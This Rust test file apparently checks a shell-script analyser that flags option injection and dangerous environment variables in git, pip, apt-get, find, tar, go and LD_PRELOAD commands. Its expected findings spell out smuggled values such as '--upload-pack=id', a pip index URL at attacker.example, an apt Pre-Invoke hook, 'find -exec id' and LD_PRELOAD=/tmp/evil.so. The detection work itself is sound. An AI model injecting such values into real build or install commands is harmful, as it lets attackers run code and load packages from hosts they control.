//! Values that become options, and variables that programs obey.

use super::check;

#[test]
fn options() {
    check(
        "git clone \"$A\" /src",
        &[
            "OptionInjection A <$A> --upload-pack=id",
            "UrlChoice A <$A> https://attacker.example/payload",
        ],
    );
    check(
        "git clone -- \"$A\" /src",
        &["UrlChoice A <$A> https://attacker.example/payload"],
    );
    check("git clone --depth 1 -b \"$A\" https://example.com/x", &[]);
    check(
        "git clone --depth 1 -b $A https://example.com/x",
        &["OptionInjection A <$A> x --upload-pack=id"],
    );
    check(
        "git -C /src fetch origin \"$A\"",
        &["OptionInjection A <$A> --upload-pack=id"],
    );
    check("git checkout \"$A\"", &[]);
    check("git checkout $A", &["UnquotedPlain A <$A> x -x *"]);
    check("pip install \"x==$A\"", &[]);
    check(
        "pip install x==$A",
        &["OptionInjection A <$A> x --index-url=https://attacker.example/simple"],
    );
    check(
        "python3 -m pip install x==$A",
        &["OptionInjection A <$A> x --index-url=https://attacker.example/simple"],
    );
    check(
        "apt-get install -y --no-install-recommends $A",
        &["OptionInjection A <$A> -oDPkg::Pre-Invoke::=id"],
    );
    check(
        "timeout 10 apt-get install \"$A\"",
        &["OptionInjection A <$A> -oDPkg::Pre-Invoke::=id"],
    );
    check(
        "echo \"$A\" | xargs apt-get install -y",
        &["OptionInjection A <$A> -oDPkg::Pre-Invoke::=id"],
    );
    check(
        "go build -ldflags \"-X main.v=$A\" ./cmd",
        &["OptionInjection A <$A> x -extld=/tmp/payload"],
    );
    check("go build -o \"$A\" .", &[]);
    check("tar -xzf \"$A\" -C /x", &[]);
    check("tar xzf \"$A\"", &[]);
    check("tar xf x.tar -I \"$A\"", &["OptionInjection A <$A> id"]);
    check(
        "chown -R \"$A:$B\" /x",
        &["OptionInjection A <$A> --reference=/tmp/planted"],
    );
    check("find /x -name \"$A\"", &[]);
    check(
        "find /x -name $A",
        &["OptionInjection A <$A> x . -exec id ;"],
    );
    check("echo $A", &["UnquotedPlain A <$A> x -x *"]);
    check("mkdir -p \"$A\"", &[]);
    check(
        "[[ $A == x ]]; case $A in x) ;; esac; x=$A; export y=$A",
        &[],
    );
    check("cp \"${A:+--x}\" y; rm \"${#A}\"", &[]);
}

#[test]
fn variables_that_programs_obey() {
    let preload = |place: &str| {
        format!("ProgramVariable {{ name: \"LD_PRELOAD\" }} A <{place}> /tmp/evil.so")
    };
    check("LD_PRELOAD=\"$A\" ls", &[&preload("LD_PRELOAD=\"$A\"")]);
    check("env LD_PRELOAD=\"$A\" ls", &[&preload("$A")]);
    check("sudo -E LD_PRELOAD=\"$A\" ls", &[&preload("$A")]);
    check("export LD_PRELOAD=\"$A\" && x", &[&preload("$A")]);
    check("declare -x LD_PRELOAD=\"$A\"; x", &[&preload("$A")]);
    check(
        "LD_PRELOAD=$A; export LD_PRELOAD; x",
        &[&preload("LD_PRELOAD")],
    );
    check(
        "GOPROXY=$A go build",
        &["ProgramVariable { name: \"GOPROXY\" } A <GOPROXY=$A> https://evil.example/"],
    );
    check("export PATH=\"/opt/$A/bin:$PATH\"; PATH=$PATH:$A x", &[]);
    check(
        "LD_PRELOAD=x ls \"$A\"; LD_PRELOAD=$A; K=$A x; export K=$A",
        &[],
    );
}
